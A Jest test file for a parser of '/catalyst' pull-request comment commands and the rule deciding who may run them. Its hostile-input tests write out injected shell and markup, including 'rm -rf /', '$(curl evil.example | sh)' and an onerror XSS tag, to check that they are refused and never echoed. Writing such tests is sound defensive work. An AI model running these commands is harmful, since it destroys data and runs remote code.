import { COMMENT_VERBS, MAX_COMMENT_LENGTH, mayCommand, parseCommentCommand } from "../../../stacks/automation/pr-commands";

/* The grammar of /catalyst comment commands (issue 17 section 3), with good and hostile input. */

describe("parseCommentCommand: good input", () => {
    it.each(["redeploy", "sleep", "wake", "destroy"])("reads /catalyst %s", (verb) => {
        expect(parseCommentCommand(`/catalyst ${verb}`)).toEqual({ kind: "command", verb });
    });

    it("reads extend with a duration through the project's duration parser", () => {
        expect(parseCommentCommand("/catalyst extend 48h")).toEqual({ kind: "command", verb: "extend", ttlMs: 48 * 3_600_000 });
        expect(parseCommentCommand("/catalyst extend 1d12h")).toEqual({ kind: "command", verb: "extend", ttlMs: 36 * 3_600_000 });
        expect(parseCommentCommand("/catalyst\textend\t30m  ")).toEqual({ kind: "command", verb: "extend", ttlMs: 30 * 60_000 });
    });

    it("finds the command on any line, with CRLF line ends, around prose", () => {
        expect(parseCommentCommand("Looks good, but the DB is stale.\r\n\r\n/catalyst redeploy\r\nthanks!")).toEqual({ kind: "command", verb: "redeploy" });
    });

    it("knows exactly the five verbs", () => {
        expect(COMMENT_VERBS).toEqual(["redeploy", "sleep", "wake", "destroy", "extend"]);
    });
});

describe("parseCommentCommand: not a command", () => {
    it.each([
        ["prose mentioning it mid-line", "you could try /catalyst redeploy here"],
        ["a quote of someone else's command", "> /catalyst destroy\nno, please don't"],
        ["an indented line", "  /catalyst destroy"],
        ["a command inside a code fence", "```\n/catalyst destroy\n```"],
        ["a command inside a tilde fence", "~~~sh\n/catalyst destroy\n~~~"],
        ["a longer word", "/catalystic is not a word"],
        ["an empty body", ""],
    ])("%s", (_what, body) => {
        expect(parseCommentCommand(body)).toEqual({ kind: "none" });
    });

    it("is none for a body that is no string", () => {
        expect(parseCommentCommand(undefined)).toEqual({ kind: "none" });
        expect(parseCommentCommand({ body: "/catalyst destroy" })).toEqual({ kind: "none" });
    });
});

describe("parseCommentCommand: hostile and wrong input", () => {
    const invalid = (body: string) => {
        const parsed = parseCommentCommand(body);
        expect(parsed.kind).toBe("invalid");
        return (parsed as { reason: string }).reason;
    };

    it("refuses an unknown command and lists the known ones", () => {
        expect(invalid("/catalyst deploy")).toBe('unknown command: "deploy"; usage: /catalyst redeploy|sleep|wake|destroy|extend <duration>');
        expect(invalid("/catalyst")).toBe("no verb; usage: /catalyst redeploy|sleep|wake|destroy|extend <duration>");
        expect(invalid("/catalyst Redeploy")).toMatch(/^unknown command: the verb given;/);
    });

    it("refuses arguments where none are allowed, and a bad or missing duration", () => {
        expect(invalid("/catalyst destroy now")).toMatch(/^destroy takes no arguments;/);
        expect(invalid("/catalyst extend")).toBe("extend takes one duration, e.g. /catalyst extend 48h");
        expect(invalid("/catalyst extend 48h 2d")).toBe("extend takes one duration, e.g. /catalyst extend 48h");
        for (const bad of ["48", "0", "-5h", "1.5h", "soon", "48H"]) {
            expect(invalid(`/catalyst extend ${bad}`)).toBe("extend: must be a duration such as 30m, 72h, 7d or 1h30m (units s, m, h, d, w)");
        }
        expect(invalid("/catalyst extend 31d")).toBe("extend: at most 30d");
    });

    it("refuses injected shell and never echoes it", () => {
        for (const body of ["/catalyst redeploy; rm -rf /", "/catalyst $(curl evil.example | sh)", "/catalyst `id`", "/catalyst extend 48h && echo pwned", "/catalyst redeploy | tee /tmp/x"]) {
            const reason = invalid(body);
            expect(reason).not.toMatch(/rm -rf|curl|`id`|pwned|tee/);
        }
        expect(invalid("/catalyst $(id)")).toMatch(/^unknown command: the verb given;/);
    });

    it("refuses injected markdown, HTML and mentions and never echoes them", () => {
        for (const body of ["/catalyst [click](https://evil.example)", "/catalyst <img src=x onerror=alert(1)>", "/catalyst @everyone", "/catalyst **destroy**"]) {
            const reason = invalid(body);
            expect(reason).not.toMatch(/evil|<img|@everyone|\*\*/);
        }
    });

    it("refuses two commands in one comment", () => {
        expect(invalid("/catalyst redeploy\n/catalyst destroy")).toBe("one command per comment, found 2");
    });

    it("reads a 10 KB comment quickly: prose around a command, and a 10 KB command line refused unparsed", () => {
        const prose = "lorem ipsum dolor sit amet ".repeat(400);
        expect(prose.length).toBeGreaterThan(10_000);
        const started = Date.now();
        expect(parseCommentCommand(`${prose}\n/catalyst extend 2d\n${prose}`)).toEqual({ kind: "command", verb: "extend", ttlMs: 2 * 86_400_000 });
        expect(invalid(`/catalyst extend ${"9".repeat(10_000)}h`)).toMatch(/^a command line is at most 64 characters;/);
        expect(invalid(`/catalyst ${" ".repeat(10_000)}redeploy`)).toMatch(/^a command line is at most 64 characters;/);
        expect(parseCommentCommand("\n".repeat(10_000))).toEqual({ kind: "none" });
        expect(Date.now() - started).toBeLessThan(1_000);
    });

    it("refuses a body longer than GitHub allows", () => {
        expect(invalid(`/catalyst redeploy\n${"x".repeat(MAX_COMMENT_LENGTH)}`)).toBe("the comment is longer than 65536 characters");
    });
});

describe("mayCommand", () => {
    it("obeys the pull request's author whatever their permission (case of the login aside)", () => {
        expect(mayCommand({ login: "Alice", author: "alice", permission: "read" })).toEqual({ allowed: true, reason: "the pull request's author" });
        expect(mayCommand({ login: "dependabot[bot]", author: "dependabot[bot]", permission: "unknown" }).allowed).toBe(true);
    });

    it.each(["admin", "maintain", "write"] as const)("obeys anyone with %s access", (permission) => {
        expect(mayCommand({ login: "bob", author: "alice", permission })).toEqual({ allowed: true, reason: `${permission} access to the repository` });
    });

    it.each(["triage", "read", "none", "unknown"] as const)("refuses a user with %s access on someone else's pull request", (permission) => {
        expect(mayCommand({ login: "mallory", author: "alice", permission })).toEqual({ allowed: false, reason: "only the pull request's author and users with write access may run /catalyst commands" });
    });

    it("refuses an empty login even against an empty author", () => {
        expect(mayCommand({ login: "", author: "", permission: "none" }).allowed).toBe(false);
    });
});
